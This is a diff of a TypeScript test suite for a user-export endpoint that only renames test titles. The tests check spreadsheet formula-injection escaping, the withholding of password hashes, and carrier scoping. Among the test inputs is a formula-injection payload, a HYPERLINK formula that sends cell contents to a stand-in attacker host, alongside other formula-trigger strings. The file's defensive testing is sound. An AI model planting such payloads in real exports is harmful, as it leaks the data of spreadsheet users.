@@ -15,7 +15,7 @@ describe('users in files', () => {
   const rowsOf = (text: string) => parse(text, { columns: true }) as unknown as Record<string, string>[];
 
   it.each(['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-1', '@SUM(A1)', "'=1", "''+1", '＝1+1', '=1,"2"'])(
-    'O10 formula in a cell: %s reaches a spreadsheet as text, and comes back as it was',
+    'writes %s as text for a spreadsheet, and imports it unchanged (O10)',
     async (first_name) => {
       const { user_id } = await service.createUser({ first_name, last_name: "O'Neill" });
       const { text } = await service.get(`/user/export?user_id=${user_id}`, service.admin);
@@ -25,7 +25,7 @@ describe('users in files', () => {
     },
   );
 
-  it('O10 formula in a cell: whatever a text is, its cell is no formula, is read as one cell, and gives the text back', async () => {
+  it('writes any text as one cell that is no formula, and imports it unchanged (O10)', async () => {
     const nasty = fc.string({ unit: fc.constantFrom(...`'"=+-@\t\r\n,; a＝＋－＠é😀`), maxLength: 8 });
     const texts = fc.sample(
       fc.oneof(
@@ -45,14 +45,14 @@ describe('users in files', () => {
     });
   });
 
-  it('P10 password in an output: an export has no hash, not even for who may purge', async () => {
+  it('exports no hash by default, even with user:purge (P10)', async () => {
     for (const format of ['csv', 'ndjson']) {
       const { text } = await service.get(`/user/export?format=${format}`, service.admin);
       expect(text).not.toMatch(/argon2|password_hash/);
     }
   });
 
-  it('P10 password in an output: hashes need user:purge, whatever else is asked', async () => {
+  it('requires user:purge for hashes, whatever else is requested (P10)', async () => {
     const { token } = await service.loginAs({ user_type: 'system', roles: ['exporter'] });
     for (const query of ['format=ndjson&hashes=true', 'hashes=true&nmae=1', 'format=csv&hashes=true']) {
       const { status, body } = await service.get(`/user/export?${query}`, { token });
@@ -61,7 +61,7 @@ describe('users in files', () => {
     expect((await service.get('/user/export?format=ndjson', { token })).status).toBe(200);
   });
 
-  it('P10 password in an output: nobody takes out the hash of somebody whom they may not touch; the rest is audited', async () => {
+  it('exports no hash of a user whom the caller may not change, and records the others (P10)', async () => {
     const { token, user_id } = await service.loginAs({ user_type: 'system', roles: ['purger'] });
     const other = await service.createUser({ roles: ['carrier_user'] });
     const protectedOne = await service.createUser({ roles: ['carrier_administrator', 'carrier_user'] });
@@ -84,7 +84,7 @@ describe('users in files', () => {
     });
   });
 
-  it('Z4 other carrier: an export has nobody from outside the scope, and the event belongs to the carrier of who took them out', async () => {
+  it('exports only users in scope, and records the event for the carrier of the caller (Z4)', async () => {
     const mine = await service.createUser({ carrier_id: 'c1' });
     await service.createUser({ carrier_id: 'c2' });
     await service.createUser({ user_type: 'system' });
